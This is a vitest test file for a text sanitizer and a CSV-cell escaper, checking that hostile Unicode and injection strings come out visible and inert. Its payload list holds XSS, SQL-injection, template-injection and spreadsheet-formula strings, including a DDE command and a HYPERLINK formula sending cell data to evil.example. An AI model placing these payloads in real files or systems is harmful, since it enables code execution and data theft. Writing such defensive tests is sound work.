/**
 * Hostile text: whatever a block, a token or a node calls itself, what leaves `safeText` shows what is
 * there, on one line, in its order, and cannot act as a formula in a spreadsheet.
 */

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { bytesToSafeText, csvCell, cutText, safeText } from './format.ts';

/** What may remain: letters, marks, digits, punctuation, symbols and the plain space. */
const VISIBLE = /^[\p{L}\p{M}\p{N}\p{P}\p{S} ]*$/u;
const IGNORABLE = /\p{Default_Ignorable_Code_Point}/u;

const between = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));

/** Characters that must not pass, by what they do. */
const HOSTILE: readonly string[] = [
  ...between(0x00, 0x1f), // control: line breaks, terminal escapes
  ...between(0x7f, 0x9f),
  ...between(0x200b, 0x200f), // zero width, direction marks
  ...between(0x202a, 0x202e), // bidirectional embedding and override
  ...between(0x2060, 0x206f), // word joiner, isolates, deprecated format characters
  ...between(0xfe00, 0xfe0f), // variation selectors
  ...between(0xfff9, 0xfffb), // interlinear annotation
  ...between(0xe0020, 0xe007f), // tags: a whole text that nobody sees
  ...between(0xe0100, 0xe0110), // variation selectors supplement
  ...between(0xfdd0, 0xfdef), // non-characters
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u115f',
  '\u1160',
  '\u17b4',
  '\u17b5',
  '\u180b',
  '\u180e',
  '\u2028',
  '\u2029',
  '\u2800',
  '\u3164',
  '\ufeff',
  '\uffa0',
  '\ufffe',
  '\uffff',
  '\u{1d173}',
  '\u{1fffe}',
  '\u{10ffff}',
  '\ue000',
  '\u{f0000}',
  '\ud800',
  '\udfff',
  '\u00a0',
  '\u1680',
  '\u2003',
  '\u2007',
  '\u202f',
  '\u205f',
  '\u3000',
];

const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("return this")()}}',
  '[click](javascript:alert(1))',
  '&lt;b&gt;&#x202e;',
  '$' + '{7*7}',
  "'; DROP TABLE blocks; --",
  '\u202eETH\u202c 0.1',
  'USD\u200bC',
  'USDC\u2066\u202e',
  '\u001b[2J\u001b[1;31mVALID\u001b[0m',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'a\rb\nc\u0085d\u2028e',
  'x'.repeat(100_000),
  '\u0301'.repeat(500),
  `Z${'\u0300\u0301\u0302\u0303'.repeat(50)}`,
  '\\u{202e}',
  '\\u{41}\u202e',
  '🏳️‍🌈',
  '\ud83d',
  '\udc00\ud83d',
  'ﷺ'.repeat(100),
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
];

describe('safeText', () => {
  test('default: there are at least 200 payloads', () => {
    expect(HOSTILE.length + PAYLOADS.length).toBeGreaterThan(200);
  });

  test.each(HOSTILE.map((character) => [character.codePointAt(0)?.toString(16), character]))(
    'behavior: U+%s is spelled out wherever it stands',
    (code, character) => {
      for (const [before, after] of [
        ['', ''],
        ['a', 'b'],
        ['שלום', 'é'],
        ['\u202e', ''],
      ] as const) {
        const safe = safeText(`${before}${character}${after}`);
        expect(safe).toContain(`\\u{${code}}`);
        expect(safe).toMatch(VISIBLE);
        expect(safe).not.toMatch(IGNORABLE);
      }
    },
  );

  test.each(PAYLOADS.map((text, i) => [i, text]))(
    'behavior: payload %i shows all it is',
    (_, text) => {
      const safe = safeText(text as string);
      expect(safe).toMatch(VISIBLE);
      expect(safe).not.toMatch(IGNORABLE);
      expect(safe).not.toMatch(/\p{M}{4}/u);
      expect(original(safe)).toBe(text);
    },
  );

  test('behavior: no two texts become the same, so that none passes for another', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (text) => {
        const safe = safeText(text);
        expect(safe).toMatch(VISIBLE);
        expect(original(safe)).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  test('behavior: ordinary text stays as it is', () => {
    for (const text of [
      'Wrapped Ether',
      '以太坊',
      'naïve é',
      'שלום',
      'C:\\users',
      '50 % = ½',
      'é̂',
    ]) {
      expect(safeText(text)).toBe(text);
    }
  });

  test('behavior: longer texts than the limit are cut, between characters, and say so', () => {
    expect(safeText('abcdef', 3)).toBe('abc…');
    expect(safeText('abc', 3)).toBe('abc');
    expect(safeText('ab🜁', 3)).toBe('ab…');
    expect(cutText('🜁🜁', 3)).toBe('🜁');
  });
});

describe('bytesToSafeText', () => {
  test.each([
    ['c328', '\\u{fffd}('],
    ['e28028', '\\u{fffd}('],
    ['ff', '\\u{fffd}'],
    ['f4908080', '\\u{fffd}\\u{fffd}\\u{fffd}\\u{fffd}'],
    ['eda080', '\\u{fffd}\\u{fffd}\\u{fffd}'],
    ['c080', '\\u{fffd}\\u{fffd}'],
    ['efbbbf41', '\\u{feff}A'],
    ['e280ae41', '\\u{202e}A'],
    ['00', '\\u{0}'],
    ['', ''],
  ])('behavior: bytes %s', (hex, text) => {
    expect(bytesToSafeText(Uint8Array.from(Buffer.from(hex, 'hex')))).toBe(text);
  });

  test('behavior: a limit holds for bytes of any length', () => {
    expect(bytesToSafeText(new Uint8Array(1_000_000).fill(0x61), 10)).toBe(`${'a'.repeat(10)}…`);
    expect(bytesToSafeText(new TextEncoder().encode('以'.repeat(11)), 10)).toBe(
      `${'以'.repeat(10)}…`,
    );
    expect(bytesToSafeText(new TextEncoder().encode('🜁'.repeat(11)), 10)).toBe(`${'🜁'.repeat(5)}…`);
  });
});

describe('csvCell', () => {
  test('behavior: every payload is one cell, and no formula', () => {
    for (const text of [...HOSTILE, ...PAYLOADS]) {
      const [only, ...others] = cellsOf(`${csvCell(text)},end`);
      expect(others).toEqual(['end']);
      expect(only).not.toMatch(/^[\s]*[=+\-@|%＝＋－＠]/);
      expect([safeText(text), `'${safeText(text)}`]).toContain(only);
    }
  });

  test('behavior: numbers stay numbers', () => {
    expect(csvCell('-1000000000000000000')).toBe('-1000000000000000000');
    expect(csvCell('-1.5')).toBe('-1.5');
    expect(csvCell('0xc0ffee')).toBe('0xc0ffee');
    expect(csvCell('+5')).toBe("'+5");
    expect(csvCell('')).toBe('');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
  });
});

/** What a safe text stands for. */
function original(safe: string): string {
  return safe.replace(/\\u\{([0-9a-f]+)\}/g, (_, code) =>
    String.fromCodePoint(Number.parseInt(code, 16)),
  );
}

/** The cells of a line, as RFC 4180 reads it. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(([, quoted, bare]) =>
    quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'),
  );
}
